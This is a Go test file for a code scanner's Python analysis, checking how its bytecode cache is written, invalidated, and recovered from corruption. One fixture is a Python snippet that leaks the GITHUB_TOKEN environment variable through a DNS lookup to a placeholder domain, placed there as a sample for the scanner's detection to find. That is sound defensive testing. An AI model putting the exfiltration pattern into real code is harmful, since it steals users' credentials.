package scan

import (
	"context"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

// TestMain keeps the package's tests out of the user's cache: scans that run altered
// scripts would otherwise leave their bytecode there.
func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "scan-test-cache-")
	if err == nil {
		err = os.Setenv("XDG_CACHE_HOME", dir)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	code := m.Run()
	_ = os.RemoveAll(dir)
	os.Exit(code)
}

// useCacheDir points the user cache at dir for one test and forgets what the process
// knew about script directories (scriptDir keeps them per process).
func useCacheDir(t *testing.T, dir string) {
	t.Helper()
	t.Setenv("XDG_CACHE_HOME", dir)
	reset := func() {
		scriptMu.Lock()
		clear(scriptDirs)
		scriptMu.Unlock()
	}
	reset()
	t.Cleanup(reset)
}

// cacheProbe is a plugin whose analysis finds a source-to-sink chain: a scan that
// reports the chain ran the analysis, whichever way the script was loaded.
var cacheProbe = map[string]string{
	"p.py": "import os, socket\nsocket.gethostbyname(os.environ['GITHUB_TOKEN'] + '.x.example')\n",
}

func scanProbe(t *testing.T, py string) *Result {
	t.Helper()
	res, err := Scan(context.Background(), writeTree(t, cacheProbe), Options{Python: py})
	if err != nil {
		t.Fatal(err)
	}
	if f := findingOf(res, idPyFailed); f != nil {
		t.Fatalf("analysis failed: %s", f.Description)
	}
	if f := findingOf(res, idPySourceToNetwork); f == nil || len(f.Chain) != 2 {
		t.Fatalf("the analysis did not report the chain\n%s", res.Report())
	}
	return res
}

// cachedPyc is the bytecode file the next scan would run, "" when it would compile.
func cachedPyc(t *testing.T, py string) string {
	t.Helper()
	_, pyc := pyArgs(py)
	return pyc
}

func pycFile(t *testing.T, py string) string {
	t.Helper()
	dir := scriptDir()
	if dir == "" {
		t.Fatal("no script cache directory")
	}
	return filepath.Join(dir, pyInterpreterKey(py)+".pyc")
}

// TestPyCacheWrittenThenRun: the first scan compiles the script and leaves whole
// bytecode in a private directory; the next one runs that bytecode, to the same result.
func TestPyCacheWrittenThenRun(t *testing.T) {
	py := testPython(t)
	useCacheDir(t, t.TempDir())
	if pyc := cachedPyc(t, py); pyc != "" {
		t.Fatalf("a fresh cache already has bytecode %s", pyc)
	}
	first := scanProbe(t, py)
	pyc := cachedPyc(t, py)
	if pyc == "" || !pycWhole(pyc) {
		t.Fatalf("no whole bytecode after the first scan (%q)", pyc)
	}
	if st, err := os.Stat(filepath.Dir(pyc)); err != nil || st.Mode().Perm() != 0o700 {
		t.Fatalf("cache directory %v, want mode 0700 (%v)", st.Mode(), err)
	}
	args, _ := pyArgs(py)
	if !strings.HasSuffix(args[len(args)-2], ".pyc") {
		t.Fatalf("the second scan does not run the bytecode: %q", args[:len(args)-1])
	}
	second := scanProbe(t, py)
	if !reflect.DeepEqual(first.Findings, second.Findings) {
		t.Fatalf("bytecode run differs from the compiled one:\n%+v\n---\n%+v", first.Findings, second.Findings)
	}
}

// TestPyCacheStaleScript: a changed script runs as changed, never as the bytecode
// of the one before it, and the old script's bytecode serves it again after.
func TestPyCacheStaleScript(t *testing.T) {
	py := testPython(t)
	useCacheDir(t, t.TempDir())
	scanProbe(t, py)
	scanProbe(t, py) // from bytecode
	saved := pyScript
	t.Cleanup(func() { pyScript = saved })
	const at = "    out = {\"findings\": an.findings,"
	if !strings.Contains(pyScript, at) {
		t.Fatal("pyscan.py no longer builds its answer as this test expects")
	}
	pyScript = strings.Replace(saved, at, "    an.notes.append({\"id\": \"cache_marker\", \"file\": \"\", \"line\": 0, \"desc\": \"changed\"})\n"+at, 1)
	for i := 0; i < 2; i++ { // compiled, then from its own bytecode
		if findingOf(scanProbe(t, py), "cache_marker") == nil {
			t.Fatalf("run %d used the old script's bytecode", i+1)
		}
	}
	pyScript = saved
	if pyc := cachedPyc(t, py); pyc == "" {
		t.Fatal("the first script's bytecode is gone")
	}
	if findingOf(scanProbe(t, py), "cache_marker") != nil {
		t.Fatal("the first script ran as the changed one")
	}
}

// TestPyCacheUnwritable: no cache directory, or one where the bytecode cannot be
// written, still gives a full analysis (compiled each time).
func TestPyCacheUnwritable(t *testing.T) {
	py := testPython(t)
	t.Run("no cache directory", func(t *testing.T) {
		file := filepath.Join(t.TempDir(), "file")
		if err := os.WriteFile(file, nil, 0o600); err != nil {
			t.Fatal(err)
		}
		useCacheDir(t, filepath.Join(file, "cache")) // under a regular file: cannot be made
		scanProbe(t, py)
		if args, pyc := pyArgs(py); pyc != "" || args[4] != pyScript {
			t.Fatalf("want the script on the command line, got %q", args[:4])
		}
	})
	t.Run("bytecode not writable", func(t *testing.T) {
		useCacheDir(t, t.TempDir())
		pyc := pycFile(t, py)
		if err := os.Mkdir(pyc, 0o700); err != nil { // a directory where the file would go
			t.Fatal(err)
		}
		for i := 0; i < 2; i++ {
			scanProbe(t, py)
		}
		if got := cachedPyc(t, py); got != "" {
			t.Fatalf("bytecode %s taken from a directory", got)
		}
		left, _ := filepath.Glob(filepath.Join(filepath.Dir(pyc), "*.tmp"))
		if len(left) > 0 {
			t.Fatalf("temporary files left: %q", left)
		}
	})
}

// TestPyCacheCorrupt: bytecode that is not whole (cut short, a flipped byte, a wrong
// length, junk) is never run; the scan compiles and rewrites it. Bytecode that passes
// the check but does not run fails that one scan and is removed.
func TestPyCacheCorrupt(t *testing.T) {
	py := testPython(t)
	damage := map[string]func([]byte) []byte{
		"empty":        func([]byte) []byte { return nil },
		"cut short":    func(b []byte) []byte { return b[:len(b)/2] },
		"header only":  func(b []byte) []byte { return b[:16] },
		"flipped byte": func(b []byte) []byte { b[len(b)/2] ^= 0x40; return b },
		"wrong length": func(b []byte) []byte { binary.LittleEndian.PutUint32(b[12:16], uint32(len(b))); return b },
		"junk":         func(b []byte) []byte { return []byte(strings.Repeat("not bytecode\n", 100)) },
	}
	for name, f := range damage {
		t.Run(name, func(t *testing.T) {
			useCacheDir(t, t.TempDir())
			scanProbe(t, py)
			pyc := pycFile(t, py)
			b, err := os.ReadFile(pyc)
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(pyc, f(b), 0o600); err != nil {
				t.Fatal(err)
			}
			if got := cachedPyc(t, py); got != "" {
				t.Fatalf("damaged bytecode taken as whole")
			}
			scanProbe(t, py)
			if !pycWhole(pyc) {
				t.Fatal("the bytecode was not rewritten")
			}
		})
	}
	t.Run("whole but not runnable", func(t *testing.T) {
		useCacheDir(t, t.TempDir())
		scanProbe(t, py)
		pyc := pycFile(t, py)
		b, err := os.ReadFile(pyc)
		if err != nil {
			t.Fatal(err)
		}
		body := []byte("\x00not a code object")
		b = append(append(b[:8:8], make([]byte, 8)...), body...)
		b[0] ^= 0xff // another interpreter's magic number
		binary.LittleEndian.PutUint32(b[8:12], crc32.ChecksumIEEE(body))
		binary.LittleEndian.PutUint32(b[12:16], uint32(len(body)))
		if err := os.WriteFile(pyc, b, 0o600); err != nil {
			t.Fatal(err)
		}
		if cachedPyc(t, py) == "" {
			t.Fatal("the check refused a file it should have passed")
		}
		res, err := Scan(context.Background(), writeTree(t, cacheProbe), Options{Python: py})
		if err != nil {
			t.Fatal(err)
		}
		if findingOf(res, idPyFailed) == nil {
			t.Fatalf("a bytecode file that cannot run gave no failure\n%s", res.Report())
		}
		if _, err := os.Stat(pyc); !os.IsNotExist(err) {
			t.Fatalf("the bytecode that failed is still there (%v)", err)
		}
		scanProbe(t, py)
		if !pycWhole(pyc) {
			t.Fatal("the bytecode was not rewritten")
		}
	})
}
